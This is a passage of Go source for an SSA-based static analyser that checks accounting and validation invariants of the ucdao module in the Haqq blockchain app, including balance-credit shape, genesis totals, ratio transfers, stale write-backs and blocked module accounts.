				badKey = true
			}
		})
		if !badKey {
			r.OK("R4", fnID(tr)+"#keys", where, "ledger writes only for owner/newOwner, total untouched")
		}
		isIdx := func(name string) func(ssa.Instruction) bool {
			return isCallMatching(func(ci CallInfo) bool {
				return ci.Name == "setHoldersIndex" && ci.Static != nil && isParam(argN(ci.Instr, 1), name)
			})
		}
		for _, nm := range []string{"owner", "newOwner"} {
			w := Precedes(tr, isIdx(nm), isSuccessExit, nil)
			r.Check(w == nil, "R4", fnID(tr)+"#holders-index/"+nm, where, "holder index refreshed", "TransferOwnership can succeed without refreshing the holder index of "+nm, P.witness(w)...)
		}
	} else {
		r.Bad("R4", "anchor/"+ucdaoFn("TransferOwnership"), "", "TransferOwnership not found")
	}
	// msg handlers validate first
	nH := 0
	for _, fn := range P.Funcs {
		if !pathHasSuffix(fnPkgPath(fn), ucdaoK) || fn.Signature.Recv() == nil || namedName(fn.Signature.Recv().Type()) != "msgServer" || fn.Parent() != nil || fn.Synthetic != "" {
			continue
		}
		nH++
		isVB := isCallMatching(func(ci CallInfo) bool {
			return ci.Name == "ValidateBasic" && backSlice(callArgs(ci.Instr)[0]).HasParam("msg") && errHandled(ci.Instr)
		})
		isKeeper := isCallMatching(func(ci CallInfo) bool {
			if ci.Name != "Fund" && ci.Name != "TransferOwnership" {
				return false
			}
			return (ci.Static != nil && pathHasSuffix(ci.PkgPath, ucdaoK)) || (ci.Invoke && ci.Recv == "Keeper" && pathHasSuffix(ci.PkgPath, ucdaoK))
		})
		w := Precedes(fn, isVB, isKeeper, nil)
		r.Check(w == nil, "R4", fnID(fn)+"#validate-first", P.Pos(fnPos(fn)), "msg.ValidateBasic() checked before the keeper call", "the keeper is called on a path without an error-checked msg.ValidateBasic()", P.witness(w)...)
	}
	r.Floor("R4", "ucdao msg handlers", nH, 4)

	// ---------- R6 ----------
	r.Rule("R8", "SHAPE.credit-is-read-add-write: in addCoinsToAccount the balance written by every setBalance is GetBalance(ctx, addr, coin.Denom).Add(coin) — the stored balance of that account and denomination plus the credited coin, on every path (no alternative value such as the bare coin on a 'first coin' path): a credit can only add to what the account holds")
	if ac, ok := P.FnOK(ucdaoFn("addCoinsToAccount")); ok {
		n := 0
		eachCall(ac, func(ci CallInfo) {
			if ci.Name != "setBalance" {
				return
			}
			n++
			v := stripValue(argN(ci.Instr, 2))
			okShape := false
			if c, isC := v.(*ssa.Call); isC && callInfo(c).Name == "Add" {
				a := callArgs(c)
				if len(a) == 2 {
					recvFromRead := false
					if rc, ok := stripValue(a[0]).(*ssa.Call); ok && callInfo(rc).Name == "GetBalance" && isParam(argN(rc, 1), "addr") {
						recvFromRead = true
					}
					okShape = recvFromRead && backSlice(a[1]).HasParam("amt")
				}
			}
			r.Check(okShape, "R8", fnID(ac)+"#credit-is-read-add-write", P.Pos(instrPos(ci.Instr)), "new balance = GetBalance(addr, denom).Add(coin)",
				"addCoinsToAccount can write a balance that is not the account's stored balance plus the credited coin (an alternative value on some path): an existing smaller share is overwritten by the incoming coin — shares are destroyed while the total and the pool keep them")
		})
		if n == 0 {
			r.Bad("R8", fnID(ac)+"#credit-is-read-add-write", P.Pos(fnPos(ac)), "addCoinsToAccount never calls setBalance")
		}
	} else {
		r.Bad("R8", "anchor/addCoinsToAccount", "", "not found")
	}
	r.Rule("R7", "FLOW.genesis-total-is-the-sum: the totals that InitGenesis records (setTotalBalanceOfCoin) derive from the balances it has just imported (GenesisState.Balances summed up), not from the document's optional TotalBalance field alone — an import without total_balance otherwise leaves the recorded total empty while shares exist")
	if ig, ok := P.FnOK(ucdaoFn("InitGenesis")); ok {
		n := 0
		eachCall(ig, func(ci CallInfo) {
			if ci.Name != "setTotalBalanceOfCoin" {
				return
			}
			n++
			sl := backSlice(argN(ci.Instr, 1))
			r.Check(sl.HasField("GenesisState", "Balances") || sl.HasField("Balance", "Coins"), "R7", fnID(ig)+"#total-from-balances", P.Pos(instrPos(ci.Instr)), "recorded total derives from the imported balances",
				"InitGenesis records a total that does not derive from the imported balances: with an omitted (optional) total_balance no total is recorded, and every later Fund adds to an empty total")
		})
		if n == 0 {
			r.Bad("R7", fnID(ig)+"#total-from-balances", P.Pos(fnPos(ig)), "InitGenesis never records the total balance")
		}
	} else {
		r.Bad("R7", "anchor/InitGenesis", "", "ucdao InitGenesis not found")
	}
	r.Rule("R6", "SHAPE.ratio-amount: TransferOwnershipWithRatio hands TransferOwnership, per held denom, exactly NewCoin(denom, TruncateInt(ToLegacyDec(balance amount) × msg.Ratio)) — no alternative amount on any path ('exactly the stated amount')")
	if fn, ok := P.FnOK("(" + ucdaoK + ".msgServer).TransferOwnershipWithRatio"); ok {
		nCoin, okShape := 0, true
		eachCall(fn, func(ci CallInfo) {
			if ci.Name != "NewCoin" {
				return
			}
			nCoin++
			a := ci.Instr.Common().Args
			amt, isC := stripValue(a[1]).(*ssa.Call)
			if !isC || callInfo(amt).Name != "TruncateInt" {
				okShape = false
				return
			}
			mul, isM := stripValue(amt.Call.Args[0]).(*ssa.Call)
			if !isM || callInfo(mul).Name != "Mul" || len(mul.Call.Args) != 2 {
				okShape = false
				return
			}
			x, y := mul.Call.Args[0], mul.Call.Args[1]
			isBal := func(v ssa.Value) bool {
				c, ok := stripValue(v).(*ssa.Call)
				return ok && callInfo(c).Name == "ToLegacyDec" && backSlice(v).HasCall(func(g CallInfo) bool { return g.Name == "GetAccountBalances" })
			}
			isRatio := func(v ssa.Value) bool { return isFieldLoad(v, "MsgTransferOwnershipWithRatio", "Ratio") }
			if !((isBal(x) && isRatio(y)) || (isBal(y) && isRatio(x))) {
				okShape = false
			}
		})
		r.Check(okShape && nCoin == 1, "R6", fnID(fn)+"#amount-is-floor-of-share", P.Pos(fnPos(fn)), "amount = TruncateInt(balance × ratio)", "the amount transferred by a ratio transfer is not on every path TruncateInt(balance × msg.Ratio): some holdings move by a different amount than the stated ratio")
		// a share that rounds down to zero is not handed to the keeper: TransferOwnership's credit step rejects any list
		// containing a zero coin, so one dust denomination (which anybody can push onto a holder) would block the transfer
		// of all the others
		pos, _ := guardPassEdges(fn, func(cond ssa.Value) (bool, bool) {
			c, ok := cond.(*ssa.Call)
			if !ok || len(c.Call.Args) == 0 || !backSlice(c.Call.Args[0]).HasCall(func(g CallInfo) bool { return g.Name == "TruncateInt" }) {
				return false, false
			}
			switch callInfo(c).Name {
			case "IsPositive":
				return true, true
			case "IsZero":
				return false, true
			}
			return false, false
		})
		var wz []ssa.Instruction
		for _, c := range findCalls(fn, func(ci CallInfo) bool { return ci.Name == "NewCoin" }) {
			cc := c
			if w := (PathQuery{Fn: fn, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(cc) }, DelEdge: edgeSet(pos)}).Search(); w != nil {
				wz = w
			}
		}
		r.Check(wz == nil && len(pos) > 0, "R6", fnID(fn)+"#zero-shares-left-out", P.Pos(fnPos(fn)), "a coin is built only over the positive-amount edge",
			"the ratio handler hands the keeper a coin for every held denomination, also when its share rounds down to zero: the keeper rejects lists containing a zero coin, so a holder with one dust denomination cannot transfer by ratio at all — and anybody can push such dust onto a holder", P.witness(wz)...)
	} else {
		r.Bad("R6", "anchor/TransferOwnershipWithRatio", "", "not found")
	}

	// ---------- R5 ----------
	r.Rule("R5", "TABLE.pool-account-blocked: the ucdao module account is in maccPerms and (*Haqq).BlockedAddrs blocks every maccPerms account with no removal (no delete on the map, no false entry) — Fund is then the only way coins enter the pool account, which the equation total = module balance needs")
	checkBlockedAddrs(r, "R5", "ucdao")

}

// staleCheck implements R3 for one function; returns the number of write-backs examined.
func staleCheck(r *Run, fn *ssa.Function) int {
	P := r.P
	type site struct {
		c   ssa.CallInstruction
		key ssa.Value
	}
	var reads, writes []site
	eachCall(fn, func(ci CallInfo) {
		if ci.Static == nil || !pathHasSuffix(ci.PkgPath, ucdaoK) {
			return
		}
		switch ci.Name {
		case "GetBalance", "GetAccountBalances":
			reads = append(reads, site{ci.Instr, stripValue(argN(ci.Instr, 1))})
		case "setBalance", "addCoinsToAccount":
			writes = append(writes, site{ci.Instr, stripValue(argN(ci.Instr, 1))})
		}
	})
	n := 0
	sort.SliceStable(writes, func(i, j int) bool { return instrPos(writes[i].c) < instrPos(writes[j].c) })
	for wi, w := range writes {
		ci := callInfo(w.c)
		if ci.Name != "setBalance" {
			continue
		}
		sl := backSlice(argN(w.c, 2))
		for _, rd := range reads {
			v := rd.c.Value()
			if v == nil || !sl.Has(v) || rd.key != w.key {
				continue
			}
			n++
			inst := fmt.Sprintf("%s#writeback-%s-%d", fnID(fn), w.key.Name(), wi+1)
			violated := false
			for _, w2 := range writes {
				if w2.c == w.c || w2.key == w.key {
					continue
				}
				// guard: equality between the two keys; delete the edges on which they are equal
				eq, _ := condEdges(fn, func(x, y ssa.Value) bool {
					return backSlice(x).Has(w.key) && backSlice(y).Has(w2.key)
				})
				del := edgeSet(eq)
				p1 := PathQuery{Fn: fn, Start: rd.c, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(w2.c) }, DelEdge: del}.Search()
				if p1 == nil {
					continue
				}
				p2 := PathQuery{Fn: fn, Start: w2.c, Target: func(in ssa.Instruction) bool { return in == ssa.Instruction(w.c) }, DelEdge: del}.Search()
				if p2 == nil {
					continue
				}
				violated = true
				wit := append([]string{"read of " + w.key.Name() + " at " + P.Pos(instrPos(rd.c))}, "intervening write to "+w2.key.Name()+" at "+P.Pos(instrPos(w2.c)), "stale write-back to "+w.key.Name()+" at "+P.Pos(instrPos(w.c)))
				r.Bad("R3", inst, P.Pos(instrPos(w.c)),
					fmt.Sprintf("value read from ledger key %q is written back after an intervening write to key %q; if both keys are the same account the intervening update is lost (shares destroyed)", w.key.Name(), w2.key.Name()), wit...)
			}
			if !violated {
				r.OK("R3", inst, P.Pos(instrPos(w.c)), "no intervening write to a possibly-aliased key between read and write-back")
			}
		}
	}
	return n
}

// checkBlockedAddrs: module account `module` is a key of app.maccPerms, and BlockedAddrs inserts true for every
// maccPerms key and never removes or clears an entry.
func checkBlockedAddrs(r *Run, rule, module string) {
	P := r.P
	// keys of maccPerms (package initialiser of app)
	keys := map[string]bool{}
	for _, fn := range P.Funcs {
		if fnPkgPath(fn) != haqqMod+"/app" || !(fn.Name() == "init" || strings.HasPrefix(fn.Name(), "init#")) {
			continue
		}
		eachInstr(fn, func(in ssa.Instruction) {
			mu, ok := in.(*ssa.MapUpdate)
			if !ok {
				return
			}
			// the map literal that is stored into the maccPerms global
			isMacc := false
			if mk, ok := mu.Map.(*ssa.MakeMap); ok && mk.Referrers() != nil {
				for _, ref := range *mk.Referrers() {
					if st, ok := ref.(*ssa.Store); ok {
						if g, ok := st.Addr.(*ssa.Global); ok && g.Name() == "maccPerms" {
							isMacc = true
						}
					}
				}
			}
			if !isMacc {
				return
			}
			if k, ok := constString(mu.Key); ok {
				keys[k] = true
			}
		})
	}
	r.Check(keys[module], rule, "app.maccPerms#"+module, "", "module account registered", fmt.Sprintf("module account %q is not a key of app.maccPerms (keys: %d): it would not be blocked from receiving plain transfers", module, len(keys)))
	ba, ok := P.FnOK("(*app.Haqq).BlockedAddrs")
	if !ok {
		r.Bad(rule, "anchor/BlockedAddrs", "", "not found")
		return
	}
	rangesMacc, insertsTrue, removes := false, 0, ""
	eachInstr(ba, func(in ssa.Instruction) {
		switch x := in.(type) {
		case *ssa.Range:
			if u, ok := x.X.(*ssa.UnOp); ok {
				if g, ok := u.X.(*ssa.Global); ok && g.Name() == "maccPerms" {
					rangesMacc = true
				}
			}
		case *ssa.MapUpdate:
			if c, ok := x.Value.(*ssa.Const); ok && c.Value != nil && c.Value.String() == "true" {
				insertsTrue++
			} else {
				removes = "a non-true value is stored at " + P.Pos(instrPos(in))
			}
		case *ssa.Call:
			if b, ok := x.Call.Value.(*ssa.Builtin); ok && (b.Name() == "delete" || b.Name() == "clear") {
				removes = b.Name() + " at " + P.Pos(instrPos(in))
			}
		}
	})
	// the module-account insertion uses NewModuleAddress(<ranged key>)
	okAddr := false
	eachCall(ba, func(ci CallInfo) {
		if ci.Name == "NewModuleAddress" {
			okAddr = true
		}
	})
	// every element: in each loop of BlockedAddrs that contains an insertion, the next iteration is reachable from the
	// start of the body only through the insertion (no `continue` that lets some accounts through), and the collecting
	// loop over maccPerms appends every key
	everyElem := true
	for _, hd := range ba.Blocks {
		if !isLoopHeader(hd) {
			continue
		}
		body := loopBody(hd)
		var ins []ssa.Instruction
		for b := range body {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.MapUpdate:
					ins = append(ins, in)
				case *ssa.Store:
					// accs = append(accs, k)
					if c, ok := stripValue(x.Val).(*ssa.Call); ok {
						if bi, ok := c.Call.Value.(*ssa.Builtin); ok && bi.Name() == "append" {
							ins = append(ins, in)
						}
					}
				case *ssa.Call:
					if bi, ok := x.Call.Value.(*ssa.Builtin); ok && bi.Name() == "append" {
						ins = append(ins, in)
					}
				}
			}
		}
		if len(ins) == 0 {
			continue
		}
		isIns := func(in ssa.Instruction) bool {
			for _, x := range ins {
				if x == in {
					return true
				}
			}
			return false
		}
		for _, sc := range hd.Succs {
			if !body[sc] || sc == hd {
				continue
			}
			w := PathQuery{Fn: ba, StartBlock: sc, Block: isIns, Target: func(in ssa.Instruction) bool { return in.Block() == hd && in == hd.Instrs[0] }}.Search()
			if w != nil {
				everyElem = false
			}
		}
	}
	r.Check(everyElem, rule, fnID(ba)+"#no-account-skipped", P.Pos(fnPos(ba)), "every loop iteration collects / blocks its account",
		"a loop of BlockedAddrs can move on to the next account without having collected or blocked the current one: some module accounts (those the filter skips) can receive plain transfers, so their balance no longer matches the module's own records")
	r.Check(rangesMacc && insertsTrue >= 2 && removes == "" && okAddr, rule, fnID(ba)+"#blocks-every-module-account", P.Pos(fnPos(ba)), "every maccPerms account is blocked, nothing removed",
		fmt.Sprintf("BlockedAddrs does not block every module account unconditionally (ranges maccPerms: %v, true-insertions: %d, removal: %q): a module account that can receive plain bank transfers gets coins its own ledger does not know about", rangesMacc, insertsTrue, removes))
}

// blockAlwaysPanics: every path from b ends in a panic before any return (bounded walk over the successors).
func blockAlwaysPanics(b *ssa.BasicBlock) bool {
	seen := map[*ssa.BasicBlock]bool{}
	var walk func(*ssa.BasicBlock) bool
	walk = func(x *ssa.BasicBlock) bool {
		if seen[x] {
			return true
		}
		seen[x] = true
		if len(x.Instrs) == 0 {
			return false
		}
		switch x.Instrs[len(x.Instrs)-1].(type) {
		case *ssa.Panic:
			return true
		case *ssa.Return:
			return false
		}
		if len(x.Succs) == 0 {
			return false
		}
		for _, s := range x.Succs {
			if !walk(s) {
				return false
			}
		}
		return true
	}
	return walk(b)
}
